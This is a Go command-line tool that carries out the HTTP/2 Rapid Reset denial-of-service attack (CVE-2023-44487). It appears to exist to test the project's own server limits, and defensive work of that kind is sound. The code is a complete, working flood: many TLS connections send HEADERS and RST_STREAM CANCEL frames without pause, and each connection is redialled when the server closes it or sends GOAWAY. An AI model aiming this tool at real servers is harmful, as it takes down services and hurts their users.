// Command rapidreset is the fifth outside review's HTTP/2 rapid reset
// (CVE-2023-44487) for TestAttackLimitsReview5Reset: -conns connections
// each send HEADERS and at once RST_STREAM (CANCEL), stream after
// stream, never waiting for an answer, for -d; a connection the hub
// closes or sends a GOAWAY on is dialled again. It runs in a process of
// its own, as the review's did, so that it does not take the test's own
// CPU from the victim's client. It prints what it saw as one line of
// JSON.
package main

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Stats is what the client saw.
type Stats struct {
	Streams, Dials, DialErrors, GoAways, ClosedByHub int64
}

func main() {
	addr := flag.String("addr", "", "host:port of the hub")
	caFile := flag.String("ca", "", "the hub's serving certificate")
	path := flag.String("path", "/version", "")
	token := flag.String("token", "", "bearer token (none if empty)")
	conns := flag.Int("conns", 8, "")
	dur := flag.Duration("d", 10*time.Second, "")
	flag.Parse()
	pem, err := os.ReadFile(*caFile)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	var s struct{ streams, dials, dialErrs, goaways, closed atomic.Int64 }
	end := time.Now().Add(*dur)
	var wg sync.WaitGroup
	for range *conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := &tls.Dialer{NetDialer: &net.Dialer{Timeout: 10 * time.Second}, Config: &tls.Config{RootCAs: pool, NextProtos: []string{"h2"}}}
			for time.Now().Before(end) {
				c, err := d.Dial("tcp", *addr)
				s.dials.Add(1)
				if err != nil {
					s.dialErrs.Add(1)
					time.Sleep(100 * time.Millisecond)
					continue
				}
				n, goaway, closed := resetOn(c.(*tls.Conn), *addr, *path, *token, end)
				s.streams.Add(n)
				if goaway {
					s.goaways.Add(1)
				}
				if closed {
					s.closed.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	_ = json.NewEncoder(os.Stdout).Encode(Stats{Streams: s.streams.Load(), Dials: s.dials.Load(), DialErrors: s.dialErrs.Load(), GoAways: s.goaways.Load(), ClosedByHub: s.closed.Load()})
}

// resetOn runs the attack on one connection until end, a GOAWAY, or the
// hub closing it; it returns the streams sent and how it ended.
func resetOn(c *tls.Conn, addr, path, token string, end time.Time) (n int64, goaway, closedByHub bool) {
	defer c.Close()
	var mu sync.Mutex // the framer's writes: the reader acks SETTINGS
	fr := http2.NewFramer(c, c)
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return 0, false, true
	}
	if err := fr.WriteSettings(); err != nil {
		return 0, false, true
	}
	ended := make(chan struct{})
	var sawGoAway, hubClosed atomic.Bool
	go func() {
		defer close(ended)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				if !errors.Is(err, net.ErrClosed) && time.Now().Before(end) {
					hubClosed.Store(true)
				}
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					mu.Lock()
					_ = fr.WriteSettingsAck()
					mu.Unlock()
				}
			case *http2.GoAwayFrame:
				sawGoAway.Store(true)
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for sid := uint32(1); sid < 1<<30 && time.Now().Before(end); sid += 2 {
		select {
		case <-ended:
			return n, sawGoAway.Load(), hubClosed.Load()
		default:
		}
		hb.Reset()
		_ = enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
		_ = enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "https"})
		_ = enc.WriteField(hpack.HeaderField{Name: ":authority", Value: addr})
		_ = enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
		if token != "" {
			_ = enc.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
		}
		mu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: sid, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(sid, http2.ErrCodeCancel)
		}
		mu.Unlock()
		if err != nil {
			// The hub closed it under the writes.
			_ = c.Close()
			<-ended
			return n, sawGoAway.Load(), !sawGoAway.Load()
		}
		n++
	}
	_ = c.Close()
	<-ended
	return n, sawGoAway.Load(), hubClosed.Load()
}
